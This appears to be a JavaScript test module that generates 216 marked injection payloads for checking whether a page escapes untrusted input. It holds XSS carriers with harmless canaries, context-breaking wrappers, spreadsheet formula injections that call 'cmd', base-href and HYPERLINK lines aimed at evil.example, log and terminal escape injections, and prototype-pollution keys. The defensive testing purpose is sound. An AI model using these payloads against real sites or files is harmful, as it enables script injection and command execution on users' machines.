/** What would run if it were taken for markup, a script or a link; `n` is what it would tell of itself. */
export const CARRIERS = [
  (n) => `<img src=x onerror=window.executed=${n}>`,
  (n) => `<svg onload=window.executed=${n}>`,
  (n) => `<script>window.executed=${n}</script>`,
  (n) => `<iframe srcdoc="<script>parent.executed=${n}</script>">`,
  (n) => `<details open ontoggle=window.executed=${n}>`,
  (n) => `<input autofocus onfocus=window.executed=${n}>`,
  (n) => `<video><source onerror=window.executed=${n}>`,
  (n) => `<body onload=window.executed=${n}>`,
  (n) => `<a href="javascript:window.executed=${n}">a</a>`,
  (n) => `<object data="javascript:window.executed=${n}">`,
  (n) => `<math><mtext><style><img src=x onerror=window.executed=${n}>`,
  (n) => `<svg><animate onbegin=window.executed=${n} attributeName=x>`,
  (n) => `<base href="//evil.example/${n}/">`,
  (n) => `<meta http-equiv=refresh content="0;javascript:window.executed=${n}">`,
  (n) => `javascript:window.executed=${n}//`,
  (n) => `data:text/html,<script>window.executed=${n}</script>`,
  (n) => `{{constructor.constructor("window.executed=${n}")()}}`,
];

/** Where a carrier might stand when a page is put together carelessly. */
const PLACES = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title></script></style>${text}`,
  (text) => `-->]]>${text}`,
  (text) => `"onmouseover="${text}" x="`,
  (text) => `';${text};'`,
  (text) => `\`\${${text}}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '\u{ff1c}').replaceAll('>', '\u{ff1e}'),
  (text) => `\u202e\u0000${text}`,
];

/** What a spreadsheet, a log or a terminal would act on; also names that every object has. */
const OTHERS = [
  '=HYPERLINK("https://evil.example")',
  '+1+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
  '\r\n2026-11-21 ERROR forged',
  '\u001b[2J\u001b[31m',
  '//evil.example/x',
  '/\\evil.example/y',
  '__proto__',
  'constructor',
  '%E0%A4%A',
  '{x:String}',
];

/** 216 payloads; each ends in a mark of its own, `m17m`, by which it is found on a page. */
export const PAYLOADS = [...PLACES.flatMap((place) => CARRIERS.map((carrier) => (n) => place(carrier(n)))), ...OTHERS.map((text) => () => text)].map(
  (make, n) => `${make(n)}${mark(n)}`,
);

export function mark(n) {
  return `m${n}m`;
}

/** The marks that stand in a text, each once. */
export function marksIn(text) {
  return new Set(text.match(/m\d+m/g));
}
